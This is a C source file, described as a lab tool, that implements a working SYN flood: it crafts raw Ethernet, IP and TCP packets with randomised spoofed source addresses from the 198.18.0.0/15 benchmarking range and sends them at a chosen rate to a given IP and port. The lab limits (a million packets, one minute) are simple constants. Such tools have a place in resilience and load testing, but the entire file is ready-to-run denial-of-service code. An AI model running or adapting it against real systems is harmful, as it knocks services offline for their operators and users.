// SPDX-License-Identifier: MIT
/*
 * A SYN flood, for the lab: flood INTERFACE DESTINATION-MAC VIP PORT COUNT RATE
 * Sends COUNT SYNs (a million at most), RATE a second, each from a random address of 198.18.0.0/15 and a random port. Ends
 * with "sent N", when all are sent or after a minute.
 */
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BURST_MS 2
#define LONGEST_MS 60000
#define MOST 1000000

struct syn {
	struct ethhdr eth;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static long now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* RFC 1071, over an even number of bytes. */
static uint32_t sum(const void *bytes, size_t length, uint32_t so_far)
{
	const unsigned char *at = bytes;

	for (size_t i = 0; i < length; i += 2)
		so_far += at[i] << 8 | at[i + 1];
	return so_far;
}

static uint16_t folded(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum);
}

/* xorshift, seeded: every run is the same flood. */
static uint32_t chance(void)
{
	static uint32_t x = 2463534242u;

	x ^= x << 13;
	x ^= x >> 17;
	return x ^= x << 5;
}

static void vary(struct syn *s)
{
	s->ip.saddr = htonl(0xc6120000 | (chance() >> 15));
	s->ip.check = 0;
	s->ip.check = folded(sum(&s->ip, sizeof(s->ip), 0));
	s->tcp.source = htons(1024 + chance() % 64000);
	s->tcp.seq = chance();
	s->tcp.check = 0;
	s->tcp.check = folded(sum(&s->tcp, sizeof(s->tcp), sum(&s->ip.saddr, 8, IPPROTO_TCP + sizeof(s->tcp))));
}

int main(int argc, char **argv)
{
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_halen = 6 };
	struct syn s = {
		.eth = { .h_proto = htons(ETH_P_IP) },
		.ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .tot_len = htons(sizeof(s.ip) + sizeof(s.tcp)) },
		.tcp = { .doff = 5, .syn = 1, .window = htons(64240) },
	};
	int fd = socket(AF_PACKET, SOCK_RAW, 0);
	unsigned char *mac = s.eth.h_dest;
	long sent = 0, count, rate;

	if (argc != 7 || fd < 0 ||
	    sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6 ||
	    inet_pton(AF_INET, argv[3], &s.ip.daddr) != 1) {
		fprintf(stderr, "flood INTERFACE DESTINATION-MAC VIP PORT COUNT RATE, as root\n");
		return 2;
	}
	to.sll_ifindex = if_nametoindex(argv[1]);
	s.tcp.dest = htons(atoi(argv[4]));
	count = atol(argv[5]) < MOST ? atol(argv[5]) : MOST;
	rate = atol(argv[6]);
	for (long from = now_ms(), spent = 0; sent < count && spent < LONGEST_MS; spent = now_ms() - from) {
		for (; sent < count && sent < rate * spent / 1000; sent++) {
			vary(&s);
			sendto(fd, &s, sizeof(s), 0, (struct sockaddr *)&to, sizeof(to));
		}
		usleep(BURST_MS * 1000);
	}
	printf("sent %ld\n", sent);
	return 0;
}
